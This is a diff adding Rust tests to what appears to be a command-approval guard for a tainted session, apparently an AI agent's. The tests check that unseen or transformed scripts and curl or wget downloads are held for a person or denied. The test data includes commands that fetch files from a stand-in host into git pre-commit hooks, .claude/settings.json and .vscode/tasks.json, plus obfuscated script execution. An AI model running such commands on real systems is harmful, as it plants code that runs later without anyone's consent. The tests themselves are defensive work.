@@ -1145,3 +1145,95 @@ fn what_variables_name_is_bound() {
         assert_eq!(running.join().unwrap().code, Some(2), "{variable}");
     }
 }
+
+/// Under both taints, what nobody has seen of the code that runs is for a person.
+#[test]
+fn code_that_nobody_has_seen_is_for_a_person() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    let work = site.work();
+    std::fs::write(work.join("notes.txt"), "echo fine\n").unwrap();
+    for number in 0..24 {
+        std::fs::write(work.join(format!("a{number:02}.sh")), "echo fine\n").unwrap();
+    }
+    std::fs::create_dir_all(work.join("sub")).unwrap();
+    std::fs::write(work.join("sub/Makefile"), "all:\n\techo fine\n").unwrap();
+    std::fs::write(work.join("Makefile"), "all:\n\techo fine\n").unwrap();
+    // What was seen whole runs.
+    for command in ["sh a00.sh", "sh a00.sh; sh a01.sh", "make", "bash ./a02.sh"] {
+        site.check(command).expect(0);
+    }
+    let many: Vec<String> = (0..24).map(|number| format!("sh a{number:02}.sh")).collect();
+    for command in [
+        many.join("; ").as_str(),
+        "find . -name 'b*.sh' -exec sh {} \\;",
+        "find sub -type f -exec bash {} +",
+        "find . -name Makefile -execdir make \\;",
+        "rev notes.txt > m.sh; bash m.sh",
+        "gunzip -c notes.gz > Makefile; make",
+        "tr a b < notes.txt > m.sh && . ./m.sh",
+        "git checkout other && make",
+        "git stash pop; sh a00.sh",
+        "sleep 5; sh missing.sh",
+        "while sleep 1; do bash ./missing.sh; done",
+        "make -f missing.mk",
+        "cd su* && make",
+        "for d in */; do (cd \"$d\" && make); done",
+    ] {
+        is_asked_again(&site, command);
+    }
+}
+
+/// What is fetched may be anything.
+#[test]
+fn a_grant_covers_no_more_files_than_it_says() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    let running = site.check_later("curl -s https://h.example/poll");
+    let id = site.held("curl -s https://h.example/poll");
+    site.cli(["approve", &id, "grant", "30"]).expect(0);
+    running.join().unwrap().expect(0);
+    site.check("curl -s https://h.example/more").expect(0);
+    for command in [
+        "curl -s https://h.example/x -o src.py",
+        "curl -s https://h.example/x > notes.txt",
+        "curl -s https://h.example/x > ~/tool.sh",
+        "curl -s https://h.example/x | tee out",
+    ] {
+        is_asked_again(&site, command);
+    }
+    let running = site.check_later("curl -s https://i.example/x -o out.json");
+    let id = site.held("curl -s https://i.example/x -o out.json");
+    let card = site.cli(["show", &id]).expect(0).stdout.replace(CONTINUED, "");
+    assert!(card.contains("out.json"), "{card}");
+    site.cli(["approve", &id, "grant", "30"]).expect(0);
+    running.join().unwrap().expect(0);
+    site.check("curl -s https://i.example/y -o out.json").expect(0);
+    is_asked_again(&site, "curl -s https://i.example/y -o other.json");
+}
+
+/// Names that parts of an address make.
+#[test]
+fn what_is_written_by_parts_of_an_address_may_act_later() {
+    let site = tainted();
+    let _host = site.serve();
+    site.raise("default", "corruption");
+    for command in [
+        "curl --create-dirs -o '#1/#2' 'https://h.example/{.claude}/{settings.json}'",
+        "curl -o '.git/#1/pre-commit' 'https://h.example/{hooks,x}'",
+        "curl -so 'x#1' 'https://h.example/[a-z]'",
+        "wget -xnH https://h.example/.git/hooks/pre-commit",
+        "wget -x https://h.example/.vscode/tasks.json",
+        "wget --force-directories https://h.example/a/b",
+    ] {
+        // A person is asked, or it is denied at once.
+        let running = site.check_later(command);
+        until("a card or an end", || (running.is_finished() || !site.pending().is_empty()).then_some(()));
+        if !running.is_finished() {
+            site.cli(["deny", "all"]).expect(0);
+        }
+        running.join().unwrap().expect(2);
+    }
+}
